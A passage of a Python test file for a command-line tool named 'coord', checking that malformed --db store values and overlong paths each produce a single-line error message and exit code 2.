        ("sqlite:///:memory:", "--db 'sqlite:///:memory:' names no file; use sqlite:///PATH, or just the path"),
        (
            "sqlite:///x.db?mode=ro",
            "--db 'sqlite:///x.db?mode=ro': coord takes no options after '?' in a sqlite URL; "
            "for a folder with '?' in its name, pass the path itself",
        ),
        (
            "x://y",
            "--db 'x://y' is not a store coord can open; pass a path, a folder, or a URL: "
            "sqlite:///PATH, postgresql://, postgres:// or postgresql+psycopg://",
        ),
        (
            "http://127.0.0.1:8080/coord",
            "--db 'http://127.0.0.1:8080/coord' is not a store coord can open; pass a path, a folder, or a URL: "
            "sqlite:///PATH, postgresql://, postgres:// or postgresql+psycopg://",
        ),
        ("a\x00b", "--db: the path holds a NUL character; name the store with a plain path"),
    ],
)
def test_bad_store_values_are_one_line(isolated: Path, value: str, message: str) -> None:
    result = run_coord("--db", value, "stakeholder", "list")
    assert (result.exit_code, result.stderr) == (2, f"Error: {message}\n")


def test_a_store_path_longer_than_the_system_allows_is_one_line(isolated: Path) -> None:
    result = run_coord("--db", "a/" * 2500, "stakeholder", "list")
    size = len(str(isolated)) + 1 + 4999
    assert (result.exit_code, result.stderr) == (
        2,
        f"Error: --db: the path is {size:,} bytes long; this system allows 4,096 in all and 255 for one folder "
        "or file name; choose a shorter path\n",
    )
    result = run_coord("init", "x" * 300)
    assert result.exit_code == 2
    assert result.stderr.startswith("Error: init: the path is ")
